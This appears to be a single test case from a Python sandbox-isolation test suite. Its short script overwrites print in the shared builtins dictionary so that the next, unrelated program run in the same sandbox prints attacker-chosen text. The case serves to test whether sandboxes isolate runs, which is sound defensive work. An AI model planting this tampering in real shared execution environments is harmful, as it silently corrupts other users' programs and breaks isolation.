# id: builtins-tamper-print
# category: language
# description: replace print in the shared builtins dict: the next program run by the same sandbox prints what the attacker wants
# source: PyCon 2014 talk (McKellar): "it seems like a bad idea to let people modify built-ins"
# detect: followup (the next, ordinary run through the same sandbox behaves differently)
b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
real_print = b['print']


def trojan(*args, **kwargs):
    real_print('owned by the previous run', **kwargs)


b['print'] = trojan
